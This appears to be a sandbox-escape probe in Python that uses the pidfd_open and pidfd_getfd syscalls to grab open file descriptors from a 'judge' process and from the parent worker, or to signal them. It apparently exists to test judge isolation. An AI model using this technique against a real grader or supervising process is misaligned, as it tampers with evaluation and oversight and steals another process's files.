# what: take open files out of the judge and the worker, or send them signals, by handles of processes

import ctypes
import os
import signal

PIDFD_OPEN, PIDFD_GETFD = 434, 438


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in {JUDGE, os.getppid()} - {0}:
        handle = libc.syscall(PIDFD_OPEN, pid, 0)
        if handle >= 0:
            for number in range(10):
                if libc.syscall(PIDFD_GETFD, handle, number, 0) >= 0:
                    return True
            signal.pidfd_send_signal(handle, 0)
            return True
    return False
